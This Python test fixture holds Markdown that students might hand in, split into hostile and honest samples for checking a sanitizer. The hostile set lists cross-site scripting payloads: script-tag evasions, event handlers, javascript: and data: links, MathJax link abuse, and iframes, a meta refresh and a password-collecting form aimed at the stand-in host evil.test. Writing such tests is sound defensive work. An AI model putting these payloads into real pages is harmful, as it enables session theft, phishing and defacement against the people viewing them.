"""Markdown that students might hand in: hostile, and honest."""

RUN = "window.ran=(window.ran||0)+1"

HOSTILE = {
    "script": f"<script>{RUN}</script>",
    "script in a line": f"text <script>{RUN}</script> text",
    "script in a script": f"<scr<script>ipt>{RUN}</script>",
    "script behind a comment": f"<!-- --!><script>{RUN}</script>",
    "script in CDATA": f"<![CDATA[<script>{RUN}</script>]]>",
    "script in mathematics": f"<math><mi><style><img src=x onerror='{RUN}'></style></mi></math>",
    "script behind a code span": f"`` `<script>{RUN}</script>",
    "handler": f"Well <img src=x onerror='{RUN}'> done, $a<b$.",
    "handler on a pasted photo": f"<img src='attachment:photo.png' onload='{RUN}'>",
    "handler in a heading": f"# <img src=x onerror='{RUN}'>",
    "handler in a table": f"| a |\n|---|\n| <img src=x onerror='{RUN}'> |",
    "handler of details": f"<details open ontoggle='{RUN}'>x</details>",
    "handler behind a quotation mark": f'[x](https://a.test"onmouseover={RUN} "t")',
    "svg": f"<svg onload='{RUN}'></svg>",
    "iframe": '<iframe src="https://evil.test/frame"></iframe>',
    "iframe with a page in it": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": '<object data="https://evil.test/object"></object>',
    "embed": '<embed src="https://evil.test/embed">',
    "style sheet": "<style>body {display: none}</style>",
    "linked style sheet": '<link rel="stylesheet" href="https://evil.test/style.css">',
    "style": '<b style="position:fixed;top:0;left:0;width:100%">27 of 27</b>',
    "class": '<div class="modal-backdrop">x</div>',
    "base": '<base href="https://evil.test/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    "form": '<form action="https://evil.test/"><input name="password"><button>Go</button></form>',
    "remote image": "![x](https://evil.test/markdown.png)",
    "remote image by reference": "![x][1]\n\n[1]: https://evil.test/reference.png",
    "remote image without a scheme": '<img src="//evil.test/bare.png">',
    "remote picture": '<picture><source srcset="https://evil.test/source.png"></picture>',
    "image that was not pasted": "![x](attachment:none.png)",
    "link": f"[x](javascript:{RUN})",
    "link in capitals": f"[x](JaVaScRiPt:{RUN})",
    "link in brackets": f"<javascript:{RUN}>",
    "link by reference": f"[x][1]\n\n[1]: javascript:{RUN}",
    "link with an entity": f"<a href='javascript&colon;{RUN}'>x</a>",
    "link to data": f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    "link that a filter completes": f"<a href='files/javascript:{RUN}'>x</a>",
    "mermaid": f"```mermaid\n</pre><script>{RUN}</script>\n```",
    "mermaid frame": "```mermaid\n</pre></div><div class='modal'><div><pre>\n```",
    "MathJax link": f"$\\href{{javascript:{RUN}}}{{x}}$",
    "MathJax link in entities": f"&#36;&#92;href{{javascript:{RUN}}}{{x}}&#36;",
    "MathJax style": "$\\style{position:fixed}{x}$",
    "end of the cell": "</div></div></div></div><h1>27 of 27</h1>",
    "start of what does not end": '<div align="center"><table><tr><td>',
    "nested": "<div>" * 5000,
}

HONEST = {
    "formulas": "If $a<b$ and $b>c$ then\n\n$$\\sum_{i<n} x_i \\ge 0 \\\\ \\frac{a}{b}$$",
    "environment": "\\begin{align}\na &< b \\\\\nc &> d\n\\end{align}",
    "comparisons": "It holds for a < b and c > d, for 3<5 & for x_1 too.",
    "table": "| rate | cost |\n|:-----|-----:|\n| 0.1 | $x<2$ |\n",
    "code": "```python\nif a < b and c > d:\n    print('<script>')\n```\n\nand `x <b> y`",
    "indented code": "Text:\n\n    <script>alert(1)</script>\n",
    "photo": "My derivation:\n\n![photo](attachment:photo.png)\n\nby hand.",
    "photo with a size": '<img src="attachment:photo.png" width="300">',
    "photo in the text": "![](data:image/png;base64,iVBORw0KGgo=)",
    "harmless HTML": "H<sub>2</sub>O<br>and <b>bold</b>, <kbd>x</kbd>",
    "centred": '<div align="center">\n\n**x**\n\n</div>',
    "details": "<details><summary>more</summary>\n\ntext\n\n</details>",
    "lists": "1. one\n2. two\n   - a\n   - b\n\n- [ ] open\n- [x] done\n\n> a quotation\n\n---\n",
    "headings": "# The *cost*\n\n## And its <i>gradient</i>",
    "links": "[a](https://x.test/?a=1&b=2), <https://y.test>, https://z.test, [m](mailto:a@b.test)",
    "definitions": "~~gone~~\n\nterm\n: what it is\n",
}

PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5Erk"
    "Jggg=="
)
PHOTO = {"photo.png": {"image/png": PIXEL}}
"""One pixel, pasted."""
